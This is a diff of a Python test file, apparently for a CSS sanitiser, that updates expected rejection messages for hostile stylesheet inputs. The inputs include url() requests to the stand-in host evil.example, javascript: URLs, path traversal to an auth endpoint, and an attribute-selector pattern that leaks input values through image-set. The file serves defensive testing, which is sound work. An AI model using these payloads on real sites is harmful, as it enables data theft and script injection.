@@ -38,7 +38,7 @@ def test_plain_rules_are_taken_and_stand_in_the_last_layer(text: str) -> None:
         ("h1 { background: url('//evil.example/a.png') }", "no file under"),
         (r"h1 { background: u\72l(https://evil.example/a) }", "no file under"),
         ("h1 { background: url(data:image/png;base64,AAAA) }", "no file under"),
-        ("h1 { background: url(javascript:alert(1)) }", "no file under"),
+        ("h1 { background: url(javascript:alert(1)) }", "bad URL"),
         ("h1 { background: url(/api/v1/auth/me) }", "no file under"),
         ("h1 { background: url(/brand/../api/v1/auth/me.png) }", "no file under"),
         ("h1 { background: url(/brand/a.png?x=1) }", "no file under"),
@@ -47,7 +47,8 @@ def test_plain_rules_are_taken_and_stand_in_the_last_layer(text: str) -> None:
         ("input[value^='a'] { background: image-set('https://evil.example/a' 1x) }", "image-set"),
         ("h1 { background: -webkit-image-set('//evil.example' 1x) }", "image-set"),
         ("h1 { background: src('https://evil.example') }", r"src\(\)"),
-        ("h1 { background: url(var(--x)) }", "one address"),
+        ("h1 { background: url(var(--x)) }", "bad URL"),
+        ("h1 { background: url('javascript:alert(1)') }", "no file under"),
         ("@font-face { font-family: Besley; src: url(/brand/faces/x.woff2) }", "face of the page"),
         (
             "@font-face { font-family: 'Atkinson  Hyperlegible Mono'; src: url(/brand/faces/x.woff2) }",
